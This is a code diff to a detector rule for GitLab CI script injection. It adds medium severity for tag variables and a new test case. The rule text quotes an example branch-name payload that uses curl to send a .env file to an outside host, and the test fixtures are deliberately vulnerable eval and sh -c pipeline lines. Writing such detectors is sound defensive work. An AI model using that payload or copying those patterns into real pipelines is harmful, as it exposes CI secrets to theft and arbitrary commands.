@@ -24,6 +24,10 @@ const WRITTEN_BY: Record<string, string> = {
   CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME: "the pull request's source branch name",
 };
 
+/** Tags are pushed by members allowed to (often only maintainers, for protected tags): a smaller circle than who writes a branch or a merge request. */
+const MEMBERS_ONLY = new Set(['CI_COMMIT_TAG', 'CI_COMMIT_TAG_MESSAGE']);
+const severityOf = (name: string) => (MEMBERS_ONLY.has(name) ? { severity: 'medium' as const } : {});
+
 /** Shells whose `-c` option runs its argument as a script, and su, which hands its `-c` argument to one. */
 const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']);
 
@@ -111,7 +115,7 @@ const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), or the remote command of `ssh host ...`, which ssh joins into one line for the remote shell to parse (quoting it locally does not help there). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), or the remote command of `ssh host ...`, which ssh joins into one line for the remote shell to parse (quoting it locally does not help there). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
@@ -120,6 +124,7 @@ const scriptInjection = gitlabRule({
       pipeline('deploy:\n  # expect\n  script:\n    - ./build.sh\n    # detail\n    - eval "deploy --branch $CI_COMMIT_BRANCH"\n'),
       pipeline('notify:\n  # expect\n  script:\n    # detail\n    - docker exec app sh -c "notify \\"${CI_MERGE_REQUEST_TITLE}\\""\n'),
       pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - ssh -i deploy.key -p 2222 deploy@app.example.org "cd /srv/app && ./deploy.sh $CI_COMMIT_REF_NAME"\n'),
+      pipeline('release:\n  # expect\n  script:\n    # detail\n    - eval "publish --version $CI_COMMIT_TAG"\n'),
       pipeline("release:\n  # expect\n  script:\n    # detail\n    - bash -ec 'git tag v1 -m '\"$CI_COMMIT_MESSAGE\"\n"),
     ],
     negative: [
@@ -132,7 +137,7 @@ const scriptInjection = gitlabRule({
     for (const { owner, scalar, text: script, keyLine } of pipelineScripts(p)) {
       for (const { offset, name, sink } of injections(script)) {
         const at = inside(keyLine, lineOf(p, scalar, offset));
-        yield { ...at, message: `${owner} expands $${name} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, resource: owner };
+        yield { ...at, message: `${owner} expands $${name} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, resource: owner, ...severityOf(name) };
       }
     }
   },
@@ -144,7 +149,7 @@ const scriptInjection = gitlabRule({
     },
     *check(script) {
       for (const { offset, name, sink } of injections(script.text))
-        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, key: `${offset}\0${name}` };
+        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands ${where(sink)}.`, key: `${offset}\0${name}`, ...severityOf(name) };
     },
   },
 });
